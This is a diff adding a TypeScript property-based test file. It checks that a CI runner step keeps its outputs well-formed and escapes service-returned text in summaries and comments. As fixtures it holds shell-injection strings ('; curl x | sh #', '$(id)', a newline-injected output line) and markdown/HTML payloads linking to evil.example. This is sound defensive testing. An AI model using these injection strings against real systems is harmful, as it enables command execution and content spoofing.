@@ -1,0 +1,118 @@
+import { expect, test } from '@jest/globals'
+import fc from 'fast-check'
+import { json } from '../../simulator/answer.ts'
+import type { OnRequest } from '../../simulator/send.ts'
+import { FORMS, OUTPUTS, type OutputName } from '../../src/runner/outputs.ts'
+import { LABELLED } from '../support/events.ts'
+import { type FlowEnd, runStep } from '../support/flow.ts'
+import { fill } from '../support/full-answers.ts'
+import { hostileText, structureOf } from '../support/markdown.ts'
+import { runs } from '../support/runs.ts'
+
+/* Whatever texts the service's answers hold: outputs keep their forms, and what people see is text. */
+
+const ALL = {
+  ...{ comment: 'true', preview: 'true', 'traffic-weeks': '3', 'reader-signals': 'all' },
+  'reader-texts': 'show',
+}
+const TASKS: Record<string, string>[] = [
+  { prompt: 'Document it.', ...ALL },
+  { prompt: 'Document it.', ...ALL, 'job-id': 'job_1' },
+  { publish: 'true', comment: 'true' },
+  { 'traffic-weeks': '8', 'reader-signals': 'all', 'reader-texts': 'show' },
+]
+
+/** What the service answers: some fields may be fine, some requests refused in these words. */
+interface Answers {
+  /** The texts, one after the other. */
+  texts: readonly string[]
+  isOdd: boolean
+  /** Of the job and of the build. */
+  status: string
+  /** Of every so-manieth request; 0 for none. */
+  refusals: number
+}
+
+function stepWith(inputs: Record<string, string>, answers: Answers): Promise<FlowEnd> {
+  const { texts, isOdd, status, refusals } = answers
+  let next = 0
+  // A word in front, so that no two are one and none is empty.
+  const text = () => `w${next++} ${texts[next % texts.length]}`
+  const onRequest: OnRequest = ({ operation, to, nth }) => {
+    if (to === 'github') return undefined
+    const error = { error: text(), details: [{ message: text() }], message: text() }
+    if (refusals > 0 && nth % refusals === refusals - 1) return json(400, error)
+    const full = fill(operation, { text, isOdd, rows: 4 })
+    const isEnd = operation === 'get' || operation === 'build'
+    return isEnd && !isOdd ? json(200, { ...Object(full?.body), status }) : full
+  }
+  return runStep({ ...LABELLED, inputs, onRequest })
+}
+
+const task = fc.constantFrom(...TASKS)
+const answers = fc.record({
+  texts: fc.array(hostileText, { minLength: 5, maxLength: 5 }),
+  isOdd: fc.boolean(),
+  status: fc.constantFrom('completed', 'failed', 'archived', 'success', 'failure', 'new_word'),
+  refusals: fc.constantFrom(0, 0, 1, 2, 5),
+})
+
+/** What a shell, an expression or the runner gives a meaning to. */
+const SPLITS = { texts: ['; curl x | sh #', '$(id)', '`id`', 'a\noutcome=pr-opened'] }
+
+test('D3: each output is of its form, whatever the service says, and none had to be left out', async () => {
+  const seen = new Set<string>()
+  const plain = { isOdd: false, status: 'failure', refusals: 0 }
+  await fc.assert(
+    fc.asyncProperty(task, answers, async (inputs, how) => {
+      const { outputs, log } = await stepWith(inputs, how)
+      for (const [name, value] of Object.entries(outputs)) {
+        expect(value).toMatch(FORMS[OUTPUTS[name as OutputName]])
+        seen.add(name)
+      }
+      expect(log.filter((line) => line.includes('was left out'))).toEqual([])
+    }),
+    {
+      numRuns: runs(40, 1_000),
+      examples: TASKS.flatMap((inputs): [Record<string, string>, Answers][] => [
+        [inputs, { ...plain, ...SPLITS }],
+        [inputs, { ...plain, ...SPLITS, status: 'completed' }],
+        [inputs, { ...plain, ...SPLITS, isOdd: true }],
+      ]),
+    },
+  )
+  // An output that no step of these sets is not tested here.
+  expect([...seen].toSorted()).toEqual(Object.keys(OUTPUTS).toSorted())
+})
+
+/** In each of them, something that would be an element, a mention or a link. */
+const HOSTILE = [
+  '<b>b</b> **b**',
+  '[x](https://evil.example)',
+  '`c` | d',
+  '<img src=x>',
+  '~~s~~ @t',
+]
+const PLAIN = HOSTILE.map((text) => 'x'.repeat(text.length))
+
+test.each(
+  TASKS.flatMap((inputs) => [
+    { inputs, status: 'completed', refusals: 0 },
+    { inputs, status: 'failed', refusals: 2 },
+    { inputs, status: 'success', refusals: 3 },
+    { inputs, status: 'failure', refusals: 0 },
+    { inputs, status: 'failure', refusals: 1 },
+  ]),
+)(
+  'S18: what people see has the structure that it has with plain words: $inputs, $status, $refusals',
+  async (how) => {
+    const { inputs, ...rest } = how
+    const markdown = async (texts: string[]) => {
+      const end = await stepWith(inputs, { ...rest, texts, isOdd: false })
+      return [end.summary, ...end.comments.map(({ body }) => body)]
+    }
+    const hostile = await markdown(HOSTILE)
+    expect(hostile.map(structureOf)).toEqual((await markdown(PLAIN)).map(structureOf))
+    expect(hostile.join()).not.toMatch(/<(b|img)\b|\]\(https:..evil/)
+  },
+)
